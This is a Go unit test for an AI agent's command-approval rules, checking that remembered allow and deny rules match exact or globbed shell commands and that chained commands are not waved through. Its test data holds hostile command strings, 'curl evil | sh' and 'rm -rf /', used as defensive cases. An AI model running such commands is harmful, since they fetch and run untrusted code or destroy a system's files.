package approval

import (
	"errors"
	"path/filepath"
	"testing"

	"github.com/agentd/agentd/engine/tools"
)

func TestApprovalRulesMatch(t *testing.T) {
	store := NewRules(filepath.Join(t.TempDir(), "rules.json"))
	cmd := func(c string) ApprovalRequest {
		return ApprovalRequest{Category: tools.CategoryCommand, Tool: "run_command", Command: c}
	}
	// Remembered answers match their exact command, glob characters and
	// compound lines included.
	if _, err := store.Remember(cmd("ls *.go && go vet ./..."), true, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := store.Remember(cmd("rm -rf build"), false, "never"); err != nil {
		t.Fatal(err)
	}
	if _, err := store.Remember(ApprovalRequest{Category: tools.CategoryGit, Tool: "git"}, true, ""); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		req   ApprovalRequest
		rule  string
		allow bool
	}{
		{cmd("ls *.go && go vet ./..."), "rule-1", true},
		{cmd("ls x.go && go vet ./..."), "", false},                   // * was the user's, not a glob
		{cmd("ls *.go && go vet ./... && curl evil | sh"), "", false}, // more parts than remembered
		{cmd("ls *.go"), "", false},
		{cmd("rm -rf build"), "rule-2", false},
		{cmd("make && rm -rf build"), "rule-2", false}, // a deny rule matches any part
		{ApprovalRequest{Category: tools.CategoryGit, Tool: "git", Command: ""}, "rule-3", true},
		{ApprovalRequest{Category: tools.CategoryWrite, Tool: "write_file"}, "", false},
	} {
		r, err := store.Match(c.req)
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case c.rule == "" && r != nil:
			t.Errorf("%q matched %s", c.req.Command, r.ID)
		case c.rule != "" && (r == nil || r.ID != c.rule || r.Allow != c.allow):
			t.Errorf("%q: got %+v, want %s allow=%v", c.req.Command, r, c.rule, c.allow)
		}
	}
	// A glob written by the user covers each part of a compound line.
	if err := store.Keep(nil); err != nil {
		t.Fatal(err)
	}
	if err := store.Import([]ApprovalRule{{ID: "rule-7", Category: tools.CategoryCommand, Command: "go *", Allow: true}}); err != nil {
		t.Fatal(err)
	}
	if r, _ := store.Match(cmd("go build ./... && go test ./...")); r == nil {
		t.Error("go * does not cover go build && go test")
	}
	if r, _ := store.Match(cmd("go build && rm -rf /")); r != nil {
		t.Error("go * covers go build && rm -rf /")
	}
	if nr, err := store.Remember(cmd("true"), true, ""); err != nil || nr.ID != "rule-8" {
		t.Errorf("after importing rule-7 the next id is %q (%v), want rule-8", nr.ID, err)
	}
	if err := store.Revoke("rule-7", "nope"); !errors.Is(err, ErrNoSuchRule) {
		t.Errorf("revoking an unknown id: %v", err)
	}
	if rules, _ := store.List(); len(rules) != 2 {
		t.Errorf("a failed revoke removed rules: %+v", rules)
	}
}
